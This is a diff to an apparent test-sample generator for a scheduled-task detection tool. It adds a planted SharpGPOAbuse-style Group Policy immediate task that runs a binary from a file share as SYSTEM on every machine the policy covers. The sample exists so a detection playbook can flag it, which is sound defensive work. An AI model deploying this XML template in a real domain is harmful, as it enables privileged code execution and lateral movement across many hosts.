@@ -24,6 +24,10 @@ Planted attacks (each must be flagged by ``playbooks/drift.yml``):
   in C:\\Users\\Public, updated (4702) by an account the vendor entry does not allow;
 * adminws01: atexec-style ``\\XbKqTnPo``: created and deleted 30 ms later, only in
   the 4698/4699 and 106/141 exports;
+* dc01: a Group Policy Preferences immediate task (``ImmediateTaskV2``) in the SYSVOL of
+  GPO ``{5C2B7A1E-9D43-4F6B-8E21-3A7D0C9B6E54}`` ("Server Maintenance") that runs
+  ``cmd.exe /c \\fs02\software$\pivot.exe`` as SYSTEM on every computer the GPO applies to
+  (SharpGPOAbuse style; judged by ``admin_surface``, codes TG-G003/TG-G004);
 * adminws01: GhostTask-style ``\\Microsoft\\Windows\\Diagnosis\\RecommendedTroubleshootingCheck``:
   TaskCache Tree and Tasks entries only (no task file, no event).
 
@@ -424,6 +428,34 @@ def inventories():
     return files
 
 
+# ------------------------------------------------------------- SYSVOL (GPO tasks)
+DEMO_GPO = "{5C2B7A1E-9D43-4F6B-8E21-3A7D0C9B6E54}"
+
+
+def sysvol_files():
+    """dc01's SYSVOL: one GPO whose preferences push an immediate SYSTEM task (docs/least-privilege.md)."""
+    base = os.path.join("samples", "dc01", "Windows", "SYSVOL", "domain", "Policies", DEMO_GPO)
+    gpt = "[General]\r\nVersion=65537\r\ndisplayName=Server Maintenance\r\n".encode("ascii")
+    xml = (
+        '<?xml version="1.0" encoding="utf-8"?>\r\n'
+        '<ScheduledTasks clsid="{CC63F200-7309-4ba0-B154-A71CD118DBCC}">'
+        '<ImmediateTaskV2 clsid="{9756B581-76EC-4169-9AFC-0CA8D43ADB5F}" name="Install Updates" image="0" '
+        'changed="2026-11-30 02:14:09" uid="{6F2C5A10-3B7D-4E8A-9C41-0D5E7B2A9F13}" userContext="0" removePolicy="0">'
+        '<Properties action="C" name="Install Updates" runAs="NT AUTHORITY\\System" logonType="S4U">'
+        '<Task version="1.3"><RegistrationInfo><Author>NT AUTHORITY\\System</Author><Description></Description>'
+        '</RegistrationInfo><Principals><Principal id="Author"><UserId>NT AUTHORITY\\System</UserId>'
+        '<RunLevel>HighestAvailable</RunLevel><LogonType>S4U</LogonType></Principal></Principals>'
+        '<Settings><MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy><Enabled>true</Enabled>'
+        '<Hidden>false</Hidden><DeleteExpiredTaskAfter>PT0S</DeleteExpiredTaskAfter></Settings>'
+        '<Triggers><TimeTrigger><StartBoundary>%LocalTimeXmlEx%</StartBoundary>'
+        '<EndBoundary>%LocalTimeXmlEx%</EndBoundary><Enabled>true</Enabled></TimeTrigger></Triggers>'
+        '<Actions Context="Author"><Exec><Command>cmd.exe</Command>'
+        '<Arguments>/c \\\\fs02.corp.contoso.example\\software$\\pivot.exe</Arguments></Exec></Actions>'
+        '</Task></Properties></ImmediateTaskV2></ScheduledTasks>\r\n').encode("utf-8")
+    return {os.path.join(base, "GPT.INI"): gpt,
+            os.path.join(base, "Machine", "Preferences", "ScheduledTasks", "ScheduledTasks.xml"): xml}
+
+
 # --------------------------------------------------------------------- driving
 def generate():
     """{relative path: bytes} of every sample file."""
@@ -442,6 +474,7 @@ def generate():
         out[os.path.join("samples", host, "TaskCache.reg")] = reg
         for name, data in host_events(host, conf["computer"]).items():
             out[os.path.join("samples", host, "events", name)] = data
+    out.update(sysvol_files())
     out.update(inventories())
     return out
 
